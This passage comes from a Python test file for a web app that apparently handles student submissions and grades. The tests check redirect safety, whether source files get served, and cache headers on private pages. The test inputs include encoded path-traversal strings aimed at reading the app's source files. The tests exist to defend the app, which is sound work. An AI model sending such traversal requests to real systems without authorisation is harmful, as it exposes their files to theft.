                                  "/static/..%2Fpages.py", "/static/%2e%2e/%2e%2e/app.py"])
def test_no_redirect_leaves_this_server(site, path):
    # the request target exactly as written (a client would normalize it)
    r = site["client"].get("/", headers=_cookie(site["tok"]["alice"]),
                           extensions={"target": path.encode()})
    assert r.status_code in (307, 404), (path, r.status_code)
    if r.is_redirect:
        target = httpx.URL(site["url"]).join(r.headers["location"])
        assert target.host == "127.0.0.1" and target.path == "/history", r.headers["location"]
    assert "import" not in r.text  # no source file served


def test_private_pages_and_downloads_are_never_cached(site):
    c, tok = site["client"], site["tok"]
    sid = _store(site, "alice", PASS_FAIL, _result(PASS_FAIL, {}))
    cached = []
    for path, who in ((f"/submissions/{sid}", "alice"), ("/history", "alice"),
                      (f"/submissions/{sid}/status", "alice"),
                      (f"/submissions/{sid}/gradescope.json", "alice"),
                      ("/instructor", "prof"), ("/instructor/grades.csv", "prof")):
        r = c.get(path, headers=_cookie(tok[who]))
        assert r.status_code == 200, path
        if "no-store" not in r.headers.get("cache-control", ""):
            cached.append(path)
    assert cached == [], f"private responses sent without Cache-Control: no-store: {cached}"
